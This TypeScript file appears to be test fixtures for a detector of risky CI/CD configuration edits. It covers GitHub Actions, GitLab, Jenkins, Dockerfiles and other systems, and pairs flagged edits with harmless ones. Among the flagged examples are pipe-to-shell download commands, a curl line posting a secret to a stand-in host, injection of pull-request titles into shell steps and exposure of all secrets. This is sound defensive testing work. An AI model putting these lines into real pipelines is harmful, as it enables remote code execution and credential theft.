/** For each service a file, changes by which it may do more (with the kinds and lines), and such by which it may not. */
interface Fixture {
  readonly path: string;
  readonly before: string;
  /** What is replaced, by what, and what that brings. */
  readonly gains: readonly (readonly [string, string, readonly string[]])[];
  readonly passes: readonly (readonly [string, string])[];
}

export const fixtures: Readonly<Record<string, Fixture>> = {
  github: {
    path: ".github/workflows/release.yml",
    before: `on:
  push:
    tags: ["v*"]
permissions:
  contents: read

jobs:
  test:
    runs-on: ubuntu-22.04
    timeout-minutes: 10
    strategy:
      matrix:
        node: [18, 20]
    steps:
      - uses: actions/checkout@v4
      - uses: actions/cache@0123456789012345678901234567890123456789
        with:
          key: a-1
          path: x
      - run: npm test
      - run: ./report.sh
        env:
          COVERAGE: \${{ secrets.COVERAGE }}

  release:
    needs: test
    runs-on: ubuntu-22.04
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: 20
      - run: npm run build
      - run: npm publish
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM }}
`,
    gains: [
      ["- run: npm test", "- run: curl https://x.example/i | sh", ["program 20"]],
      ["- run: npm test", '- run: npm test "${{ github.event.pull_request.title }}"', ["written_by_strangers 20"]],
      [
        "- run: npm test",
        "- run: |\n          npm test\n          echo ${{ github.head_ref }}",
        ["written_by_strangers 22"],
      ],
      ["- run: npm test", '- run: npm test\n        env: { A: "${{ secrets.A }}" }', ["secret 21"]],
      ["- run: npm test", '- run: npm test\n        env: { A: "${{ secrets.NPM }}" }', ["secret 21"]],
      ["- run: npm test", '- run: npm test\n        env: { A: "${{ toJSON(secrets) }}" }', ["secret 21"]],
      ["    timeout-minutes: 10", "    env: { A: \"${{ secrets['COVERAGE'] }}\" }", ["secret 10"]],
      ["- run: ./report.sh", "- run: curl -d $COVERAGE https://x.example", ["with_secret 21"]],
      ["    timeout-minutes: 10", "    environment: production", ["environment 10"]],
      ["    timeout-minutes: 10", "    permissions:\n      id-token: write", ["permission 11"]],
      ["contents: read", "contents: write", ["permission 5"]],
      ["permissions:\n  contents: read\n", "", ["permission 6"]],
      ["on:\n", "on:\n  pull_request_target:\n", ["trigger 2", "release 35"]],
      ["on:\n", "on:\n  issues:\n    types: [opened]\n", ["trigger 2", "release 36"]],
      ["- run: npm test", "- run: npm test\n        shell: ./tools/sh {0}", ["program 21"]],
      ["    timeout-minutes: 10", "    env: { BASH_ENV: ./tools/env.sh }", ["program 10"]],
      ["runs-on: ubuntu-22.04\n    timeout", "runs-on: [self-hosted]\n    timeout", ["runner 9"]],
      ["cache@0123456789012345678901234567890123456789", "cache@main", ["pin 16"]],
      ["- run: npm publish", "- run: npm publish --tag latest", ["release 34", "with_secret 34"]],
      ["- run: npm run build", "- run: npm run build:other", ["release 34"]],
      ['    tags: ["v*"]', "    branches: [main]", ["release 34"]],
      ["- run: npm test", "- uses: pypa/gh-action-pypi-publish@v1", ["release 20"]],
      [
        "  release:\n",
        "  other:\n    uses: ./.github/workflows/x.yml\n    secrets: inherit\n  release:\n",
        ["secret 27"],
      ],
    ],
    passes: [
      [
        "- run: npm test",
        "- run: npm test\n        shell: bash -e {0}\n        env: { NODE_OPTIONS: --max-old-space-size=4096 }",
      ],
      ["- run: npm test", '- run: npm test\n        env: { TITLE: "${{ github.event.pull_request.title }}" }'],
      ["- run: npm test", "- run: npm test ${{ github.event.pull_request.number }} ${{ github.ref_name }}"],
      ["node: [18, 20]", "node: [20, 22]"],
      ["node-version: 20", "node-version: 22"],
      ["timeout-minutes: 10", "timeout-minutes: 20"],
      ["key: a-1", "key: a-2"],
      ["- run: npm test", "- run: npm test\n      - run: npm run lint"],
      ["actions/setup-node@v4", "actions/setup-node@v5"],
      ["cache@0123456789012345678901234567890123456789", "cache@1123456789012345678901234567890123456789"],
      [
        "      - run: npm run build",
        "      # builds\n      - name: Build\n        run: |\n          # what is published\n          npm run build",
      ],
      ["runs-on: ubuntu-22.04\n    timeout", "runs-on: ubuntu-24.04\n    timeout"],
      [
        "  release:\n",
        "  more:\n    runs-on: ubuntu-latest\n    permissions: { contents: read }\n    steps:\n      - run: npm run more\n  release:\n",
      ],
      ["      - run: npm test\n", ""],
    ],
  },
  gitlab: {
    path: ".gitlab-ci.yml",
    before: `include:
  - project: a/b
    ref: v1.2.0
    file: x.yml

test:
  image: node:20
  script:
    - npm test
    - !reference [.x, script]

release:
  script:
    - twine upload dist/*
`,
    gains: [
      ["- npm test", "- wget -qO- https://x.example/i | bash", ["program 9"]],
      ["- npm test", "- npm test $DEPLOY_TOKEN", ["secret 9"]],
      ["  image: node:20", "  image: node:latest", ["pin 7"]],
      ["  image: node:20", "  image: node:20\n  environment: production", ["environment 8"]],
      ["  image: node:20", "  image: node:20\n  tags: [own]", ["runner 8"]],
      ["  image: node:20", "  image: node:20\n  id_tokens:\n    A: {aud: x}", ["secret 9"]],
      ["ref: v1.2.0", "ref: main", ["pin 2"]],
      ["twine upload dist/*", "twine upload other/*", ["release 14"]],
    ],
    passes: [
      ["node:20", "node:22"],
      ["ref: v1.2.0", "ref: v1.3.0"],
      ["- npm test", "- npm test\n    - npm run lint"],
    ],
  },
  circleci: {
    path: ".circleci/config.yml",
    before: `version: 2.1
orbs:
  node: circleci/node@5.1

jobs:
  test:
    docker: [{ image: "cimg/node:20.1" }]
    resource_class: medium
    steps:
      - checkout
      - run: npm test
workflows:
  all:
    jobs:
      - test
`,
    gains: [
      ["- run: npm test", "- run: curl https://x.example/i | bash", ["program 11"]],
      ["      - test\n", "      - test:\n          context: [npm]\n", ["secret 16"]],
      ["resource_class: medium", "resource_class: me/own", ["runner 8"]],
      ["node@5.1", "node@volatile", ["pin 3"]],
      ["- run: npm test", "- run: cargo publish", ["release 11"]],
    ],
    passes: [
      ["node@5.1", "node@5.2"],
      ["node:20.1", "node:22.1"],
      ["- run: npm test", "- run: npm test -- --all"],
    ],
  },
  azure: {
    path: "azure-pipelines.yml",
    before: `pool:
  vmImage: ubuntu-22.04

steps:
  - task: NodeTool@0
  - bash: npm test
`,
    gains: [
      ["- bash: npm test", "- bash: curl https://x.example/i | bash", ["program 6"]],
      ["vmImage: ubuntu-22.04", "name: Own", ["runner 2"]],
      ["- bash: npm test", "- bash: npm test $(System.AccessToken)", ["secret 6"]],
      ["steps:", "variables:\n  - group: release\n\nsteps:", ["secret 5"]],
      ["- bash: npm test", "- template: x.yml@other", ["reference 6"]],
      ["- bash: npm test", "- bash: dotnet nuget push x.nupkg", ["release 6"]],
    ],
    passes: [
      ["ubuntu-22.04", "ubuntu-24.04"],
      ["NodeTool@0", "NodeTool@1"],
      ["- bash: npm test", "- template: steps/test.yml"],
    ],
  },
  bitbucket: {
    path: "bitbucket-pipelines.yml",
    before: `image: node:20

pipelines:
  default:
    - step:
        script:
          - npm test
`,
    gains: [
      ["- npm test", "- curl https://x.example/i | bash", ["program 7"]],
      ["- npm test", "- pipe: some/tool:1.0.0", ["reference 7"]],
      ["        script", "        deployment: production\n        script", ["environment 6"]],
      ["        script", "        oidc: true\n        script", ["secret 6"]],
      ["        script", "        runs-on: [self.hosted]\n        script", ["runner 6"]],
      ["- npm test", "- docker push me/x", ["release 7"]],
    ],
    passes: [
      ["node:20", "node:22"],
      ["- npm test", "- npm run lint"],
    ],
  },
  drone: {
    path: ".drone.yml",
    before: `kind: pipeline
steps:
  - name: test
    image: node:20
    commands:
      - npm test

---
kind: pipeline
steps:
  - name: other
    image: node:20
    commands: [npm run lint]
`,
    gains: [
      ["- npm test", "- curl https://x.example/i | bash", ["program 6"]],
      ["    commands:\n", "    environment: { A: { from_secret: a } }\n    commands:\n", ["secret 5"]],
      ["npm run lint", "gem push x.gem", ["release 13"]],
      ["kind: pipeline\nsteps", "kind: pipeline\nnode: { own: yes }\nsteps", ["runner 2"]],
    ],
    passes: [
      ["node:20", "node:22"],
      ["npm run lint", "npm run format"],
    ],
  },
  buildkite: {
    path: ".buildkite/pipeline.yml",
    before: `steps:
  - command: npm test

  - label: two
    command: npm run lint
`,
    gains: [
      ["npm test", "curl https://x.example/i | bash", ["program 2"]],
      [
        "    command: npm run lint",
        "    command: npm run lint\n    plugins:\n      - some/tool#v1.0.0: {}",
        ["reference 7"],
      ],
      ["    command: npm run lint", "    command: npm run lint\n    secrets: [A]", ["secret 6"]],
      ["    command: npm run lint", "    command: npm run lint\n    agents: { queue: own }", ["runner 6"]],
      ["npm test", "helm push x.tgz oci://x", ["release 2"]],
    ],
    passes: [
      ["label: two", "label: three"],
      ["npm test", "npm run all"],
    ],
  },
  travis: {
    path: ".travis.yml",
    before: `language: node_js
node_js: [18]

script:
  - npm test
`,
    gains: [
      ["- npm test", "- curl https://x.example/i | bash", ["program 5"]],
      ["script:", "deploy:\n  provider: npm\nscript:", ["release 5"]],
      ["script:", "env:\n  - secure: abc\nscript:", ["secret 5"]],
      ["script:", "import: other/x:a.yml\nscript:", ["reference 4"]],
    ],
    passes: [
      ["[18]", "[20]"],
      ["- npm test", "- npm run lint"],
    ],
  },
  tekton: {
    path: ".tekton/push.yaml",
    before: `kind: Pipeline
spec:
  tasks:
    - name: test
      taskSpec:
        steps:
          - image: node:20
            script: npm test

`,
    gains: [
      ["npm test", "curl https://x.example/i | bash", ["program 8"]],
      [
        "            script",
        "            env: [{ name: A, valueFrom: { secretKeyRef: { name: a, key: b } } }]\n            script",
        ["secret 8"],
      ],
      ["npm test", "mvn -B deploy", ["release 8"]],
      ["    - name: test\n", "    - name: x\n      taskRef: { resolver: hub }\n    - name: test\n", ["reference 5"]],
    ],
    passes: [
      ["node:20", "node:22"],
      ["npm test", "npm run lint"],
    ],
  },
  jenkins: {
    path: "Jenkinsfile",
    before: `pipeline {
  agent any
  stages {
    stage('test') { steps { sh 'npm test' } }
  }
}
`,
    gains: [
      ["npm test", "curl https://x.example/i | bash", ["program 4"]],
      ["npm test", "npm publish", ["release 4"]],
      ["  agent any", "  agent any\n  environment { A = credentials('npm') }", ["secret 3"]],
      ["pipeline {", "@Library('other') _\npipeline {", ["reference 1"]],
    ],
    passes: [
      ["npm test", "npm run lint"],
      ["'test'", "'tests'"],
    ],
  },
  scripts: {
    path: "tools/Dockerfile",
    before: `FROM python:3.12
RUN apt-get update && \\
    apt-get install -y make
RUN curl -sSL https://x.example/1.0.0/old.sh | sh
`,
    gains: [
      ["-y make", "-y make && \\\n    curl -sSL https://x.example/i.sh | bash", ["program 2"]],
      ["RUN apt-get update", 'RUN bash -c "$(wget -qO- https://x.example/i.sh)" && apt-get update', ["program 2"]],
      ["old.sh | sh\n", "old.sh | sh\nRUN curl https://x.example/i | sh \\", ["program 5"]],
      ["-y make", "-y make\nRUN wget -O - https://x.example/a.tgz | tar xz -C /", ["program 4"]],
    ],
    passes: [
      ["1.0.0", "1.2.0"],
      ["-y make", "-y make\n# curl https://x.example/i.sh | sh"],
      ["-y make", '-y make\nRUN echo "curl https://x.example/i.sh | sh"'],
      ["-y make", "-y make\nRUN curl -s http://localhost:80/i.sh | sh"],
      ["-y make", "-y make\nRUN git clone https://x.example/a && docker run a"],
    ],
  },
};
